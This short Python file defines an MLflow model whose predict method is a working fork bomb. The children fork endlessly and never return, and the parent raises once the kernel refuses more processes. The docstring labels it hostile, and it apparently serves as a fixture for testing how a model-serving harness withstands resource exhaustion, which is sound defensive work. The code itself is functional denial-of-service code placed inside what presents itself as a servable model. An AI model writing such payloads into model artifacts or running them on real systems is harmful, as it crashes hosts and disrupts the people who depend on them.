"""Hostile: a fork bomb; children fork forever, the parent reports when the kernel says no."""

import os
import time

import mlflow.models
import mlflow.pyfunc


class ForkBombModel(mlflow.pyfunc.PythonModel):
    def predict(self, context, model_input, params=None):
        me = os.getpid()
        while True:
            try:
                pid = os.fork()
            except OSError:
                if os.getpid() == me:
                    raise
                time.sleep(0.01)
                continue
            if pid == 0:
                # A child: keep forking, never return into the harness.
                try:
                    while True:
                        try:
                            os.fork()
                        except OSError:
                            time.sleep(0.01)
                finally:
                    os._exit(0)


mlflow.models.set_model(ForkBombModel())
